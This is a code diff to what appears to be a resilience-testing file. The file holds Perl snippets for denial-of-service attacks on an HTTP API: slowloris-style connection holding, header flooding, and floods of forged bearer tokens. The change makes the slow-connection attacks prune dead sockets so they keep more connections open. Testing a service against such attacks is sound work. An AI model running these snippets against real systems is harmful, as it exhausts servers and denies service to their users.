@@ -22,6 +22,7 @@ sub say_all {
     my $n = syswrite $s, $what;
     return defined $n && $n == length $what;
 }
+sub is_open { return !defined recv $_[0], my $answer, 1, MSG_DONTWAIT }
 sub letters { return join '', map { chr 97 + rand 26 } 1 .. $_[0] }
 sub commands {
     return "GET /v1/commands HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer $token\r\n\r\n";
@@ -62,9 +63,10 @@ ATTACKS: dict[str, str] = {
             1 while say_all($s, 'X: ' . ('x' x 4000) . "\r\n"); close $s }""",
     "slow_heads": r"""my @open;
         while (1) { my $s = dial('session'); push @open, $s if $s && say_all($s, "POST /v1");
-            shift @open if @open > 3000; say_all($open[rand @open], 'x') if @open }""",
+            @open = grep { is_open($_) && say_all($_, 'x') } @open if @open % 100 == 0 }""",
     "silence": r"""my @open;
-        while (1) { my $s = dial('session'); push @open, $s if $s; shift @open if @open > 3000 }""",
+        while (1) { my $s = dial('session'); push @open, $s if $s;
+            @open = grep { is_open($_) } @open if @open % 100 == 0 }""",
     "forged_tokens": r"""many(4);
         while (1) { my $s = dial('session') or next;
             say_all($s, post('{"seq":1,"type":"started"}', letters(43))); hang_up($s) }""",
